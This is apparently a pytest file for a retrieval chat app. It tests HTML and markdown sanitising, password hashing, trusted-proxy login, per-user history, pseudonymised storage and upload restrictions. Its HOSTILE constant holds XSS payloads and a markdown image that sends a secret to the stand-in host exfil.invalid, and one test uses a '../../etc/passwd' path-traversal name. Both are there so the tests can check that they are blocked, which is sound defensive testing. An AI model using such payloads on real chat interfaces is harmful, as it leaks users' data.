"""The chat's parts without a browser: safe rendering, login, history, feedback and per-user
documents, on the real embedder, Qdrant Edge and Presidio."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

from guardrails.pii import PseudonymVault
from rag.compose import build_embedder, build_pii
from rag.schema import Answer
from rag.settings import ChatSettings, ChatUser, Settings, SettingsError, load_settings
from rag.store import SHARED
from tests.conftest import local_settings
from ui.auth import (
    LOCAL_USER,
    Identity,
    hash_password,
    identify,
    password_check,
    trusted_header_user,
    verify_password,
)
from ui.chat import resumed_conversation, stored_question, upload_summary
from ui.documents import DocumentLibrary, UploadError, folder_name, safe_file_name
from ui.history import HistoryStore, StoredTurn
from ui.render import AnswerView, highlight_passage, safe_markdown

HOSTILE = (
    'Fine text <script>alert(1)</script> <img src=x onerror="alert(2)"> '
    "![chart](https://exfil.invalid/c?data=SECRET) ![ref][r]"
)


def test_model_output_keeps_no_tag_no_handler_and_no_image() -> None:
    shown = safe_markdown(HOSTILE)
    assert "<script" not in shown and "<img" not in shown
    assert "&lt;script&gt;" in shown, "the text stays readable, as text"
    assert "exfil.invalid" not in shown and "![" not in shown
    assert "[image removed: chart]" in shown


def test_passage_is_escaped_and_the_sentence_the_answer_used_is_marked() -> None:
    passage = "Passwords need 14 characters at least. <b>Lunch</b> is at noon."
    marked = highlight_passage(passage, "The minimum is 14 characters for passwords.")
    assert "<mark>Passwords need 14 characters at least.</mark>" in marked
    assert "&lt;b&gt;Lunch&lt;/b&gt; is at noon." in marked and "<b>" not in marked


def test_password_hashes_verify_only_their_password() -> None:
    stored = hash_password("correct horse")
    assert stored.startswith("scrypt$") and "correct horse" not in stored
    assert verify_password("correct horse", stored)
    assert not verify_password("correct hors", stored)
    assert not verify_password("anything", "not-a-hash")
    assert hash_password("correct horse") != stored, "each hash has its own salt"


def test_login_accepts_configured_users_and_marks_admins() -> None:
    chat = ChatSettings(
        users={
            "alice": ChatUser(password_hash=hash_password("a-pw")),
            "root": ChatUser(password_hash=hash_password("r-pw"), admin=True),
        }
    )
    check = password_check(chat)
    assert check is not None
    assert check("alice", "a-pw") and not check("alice", "r-pw") and not check("eve", "a-pw")
    assert identify(chat, "root") == Identity("root", admin=True)
    assert identify(chat, "alice") == Identity("alice", admin=False)
    with pytest.raises(PermissionError):
        identify(chat, None)


def test_without_users_the_chat_is_single_user_and_needs_no_login() -> None:
    chat = ChatSettings()
    assert password_check(chat) is None and trusted_header_user(chat) is None
    assert identify(chat, None) == Identity(LOCAL_USER, admin=True)


def test_trusted_header_is_believed_only_from_a_trusted_proxy() -> None:
    user_of = trusted_header_user(ChatSettings(trusted_header="X-Forwarded-User"))
    assert user_of is not None

    def request(host: str, user: str) -> SimpleNamespace:
        return SimpleNamespace(
            client=SimpleNamespace(host=host), headers={"X-Forwarded-User": user}
        )

    assert user_of(request("127.0.0.1", "carol")) == "carol"
    assert user_of(request("10.1.2.3", "carol")) is None, "a client could forge the header"
    assert user_of(request("127.0.0.1", "")) is None


def _view(request_id: str) -> AnswerView:
    return AnswerView(request_id=request_id, status="answered", text="An answer.")


def test_history_is_per_user_for_list_read_rename_delete_and_feedback(tmp_path: Path) -> None:
    history = HistoryStore(tmp_path / "history.sqlite")
    mine = history.create("alice", "What is <PERSON_1>'s leave?")
    history.append(
        "alice",
        mine,
        [StoredTurn("user", "q"), StoredTurn("assistant", "a", "req-1", _view("req-1"))],
    )
    assert [c.id for c in history.conversations("alice")] == [mine]
    assert history.conversations("bob") == []
    assert history.turns("bob", mine) == []
    assert not history.rename("bob", mine, "stolen") and not history.delete("bob", mine)
    with pytest.raises(PermissionError):
        history.append("bob", mine, [StoredTurn("user", "x")])
    assert not history.record_feedback("bob", "req-1", "down")
    assert history.record_feedback("alice", "req-1", "up")
    assert history.record_feedback("alice", "req-1", "up", "Useful, said <PERSON_1>")
    assert history.record_feedback("alice", "req-1", "down")
    (feedback,) = history.feedback("req-1")
    assert (feedback.rating, feedback.comment) == ("down", "Useful, said <PERSON_1>")
    assert history.rename("alice", mine, "Leave")
    assert history.conversations("alice")[0].title == "Leave"
    turns = history.turns("alice", mine)
    assert turns[1].details == _view("req-1") and turns[1].request_id == "req-1"
    assert history.delete("alice", mine) and history.turns("alice", mine) == []


def test_history_stores_the_pseudonymised_question_never_the_raw_one(
    provisioned: Settings,
) -> None:
    pii = build_pii(provisioned)
    question = "I am Ada Lovelace, write to ada.lovelace@example.com about my leave"
    verdict = pii.check_sync(question, PseudonymVault())
    answer = Answer(
        request_id="r", question=question, text="", status="answered", verdicts=(verdict,)
    )
    stored = stored_question(question, answer)
    assert "Ada" not in stored and "example.com" not in stored
    assert "<PERSON_1>" in stored and "<EMAIL_ADDRESS_1>" in stored


def test_a_resumed_conversation_never_reuses_an_old_placeholder_for_someone_new() -> None:
    turns = [
        StoredTurn("user", "Who is <PERSON_1>, and <PERSON_2>?"),
        StoredTurn("assistant", "<PERSON_1> leads sales.", "r1", _view("r1")),
    ]
    conversation = resumed_conversation("alice", turns)
    assert [t.role for t in conversation.turns] == ["user", "assistant"]
    assert conversation.vault.placeholder_for("PERSON", "Grace Hopper") == "<PERSON_3>"
    assert conversation.vault.restore("<PERSON_1>") == "<PERSON_1>"


@pytest.fixture
def library(provisioned: Settings, tmp_path: Path) -> DocumentLibrary:
    return DocumentLibrary(local_settings(tmp_path / "data"))


def _upload(library: DocumentLibrary, who: Identity, tmp: Path, name: str, text: str) -> None:
    source = tmp / "incoming" / name
    source.parent.mkdir(exist_ok=True)
    source.write_text(text)
    library.upload(who, [(name, source)])


ALICE, BOB, ADMIN = Identity("alice", False), Identity("bob", False), Identity("root", True)


def test_an_upload_is_retrieved_for_its_owner_only(
    library: DocumentLibrary, tmp_path: Path
) -> None:
    _upload(
        library, ALICE, tmp_path, "zephyr.md", "# Zephyr\n\nThe Zephyr code name is HERON-42.\n"
    )
    _upload(library, BOB, tmp_path, "zephyr.md", "# Zephyr\n\nBob's Zephyr notes say KESTREL-7.\n")
    store = library.parts().store
    vector = build_embedder(library.settings).embed_query("Zephyr code name")

    def texts(owners: tuple[str, ...]) -> str:
        return " ".join(h.chunk.text for h in store.search(vector, 10, "Zephyr", owners=owners))

    alice, bob = (ALICE.owner, SHARED), (BOB.owner, SHARED)
    assert "HERON-42" in texts(alice) and "KESTREL-7" not in texts(alice)
    assert "KESTREL-7" in texts(bob) and "HERON-42" not in texts(bob)
    assert [d.path for d in library.documents(ALICE)] == ["alice/zephyr.md"]


def test_reupload_writes_nothing_and_delete_removes_only_the_owners_copy(
    library: DocumentLibrary, tmp_path: Path
) -> None:
    for who in (ALICE, BOB):
        _upload(library, who, tmp_path, "notes.md", "# Notes\n\nSame text for both.\n")
    again = library.upload(ALICE, [("notes.md", tmp_path / "incoming" / "notes.md")])
    assert again.unchanged == ("alice/notes.md",) and not again.added
    assert library.delete(BOB, "bob/notes.md")
    assert not library.delete(BOB, "alice/notes.md"), "bob cannot name alice's document"
    assert [d.path for d in library.documents(ALICE)] == ["alice/notes.md"]
    assert library.documents(BOB) == []


def test_an_upload_that_is_not_utf8_says_how_it_was_read(
    library: DocumentLibrary, tmp_path: Path
) -> None:
    source = tmp_path / "menu.txt"
    source.write_bytes("Caf\xe9 cr\xe8me is served at noon.".encode("latin-1"))
    result = library.upload(ALICE, [("menu.txt", source)])
    assert result.added == ("alice/menu.txt",)
    assert result.notices == (("menu.txt", "decoded as cp1252, detected (not valid UTF-8)"),)
    assert "note: menu.txt: decoded as cp1252" in upload_summary(result)


def test_owner_keys_and_folders_never_collide_whatever_the_user_name() -> None:
    names = ["alice", "Alice", "shared", "uploads", "user-0123abcd", "chat:alice", "Zoë Ng", "a/b"]
    owners = [Identity(name, False).owner for name in names]
    assert SHARED not in owners and len(set(owners)) == len(names)
    folders = [folder_name(owner) for owner in [*owners, SHARED]]
    assert len(set(folders)) == len(folders), folders
    hashed = folder_name(Identity("Zoë Ng", False).owner)
    assert hashed.startswith("user-") and folder_name(Identity(hashed, False).owner) != hashed


def test_reserved_or_malformed_user_names_are_refused_in_settings_and_headers() -> None:
    for name in ("shared", "Local", " bob", "", "x" * 65, "eve\nroot"):
        with pytest.raises(SettingsError):
            load_settings("local", chat={"users": {name: {"password_hash": "x"}}})
    user_of = trusted_header_user(ChatSettings(trusted_header="X-Forwarded-User"))
    assert user_of is not None
    for name in ("shared", "UPLOADS", "local"):
        request = SimpleNamespace(
            client=SimpleNamespace(host="127.0.0.1"), headers={"X-Forwarded-User": name}
        )
        assert user_of(request) is None, name


def test_an_upload_over_the_users_quota_is_refused_and_nothing_is_kept(tmp_path: Path) -> None:
    limited = DocumentLibrary(
        local_settings(tmp_path / "data", chat={"max_user_files": 2, "max_user_bytes": 60})
    )
    docs = []
    for number in range(3):
        doc = tmp_path / f"n{number}.md"
        doc.write_text(f"# N{number}\n\nnote {number}\n")
        docs.append(doc)
    with pytest.raises(UploadError, match="max_user_files"):
        limited.upload(ALICE, [(d.name, d) for d in docs])
    big = tmp_path / "big.md"
    big.write_text("# Big\n\n" + "word " * 20)
    with pytest.raises(UploadError, match="max_user_bytes"):
        limited.upload(ALICE, [("big.md", big)])
    assert not list(limited.folder(ALICE.owner).iterdir())


def test_uploads_refuse_other_formats_oversize_and_non_admin_shared(
    library: DocumentLibrary, tmp_path: Path
) -> None:
    exe = tmp_path / "tool.exe"
    exe.write_bytes(b"MZ")
    with pytest.raises(UploadError, match="not a format"):
        library.upload(ALICE, [("tool.exe", exe)])
    doc = tmp_path / "a.md"
    doc.write_text("# A\n\ntext\n")
    with pytest.raises(UploadError, match="only admins"):
        library.upload(ALICE, [("a.md", doc)], shared=True)
    assert library.upload(ADMIN, [("a.md", doc)], shared=True).added == ("uploads/a.md",)
    small = DocumentLibrary(local_settings(tmp_path / "small", chat={"max_upload_bytes": 5}))
    with pytest.raises(UploadError, match="max_upload_bytes"):
        small.upload(ALICE, [("a.md", doc)])
    assert safe_file_name("../../etc/passwd.md") == "passwd.md"
    with pytest.raises(PermissionError):
        library.quarantined(ALICE)
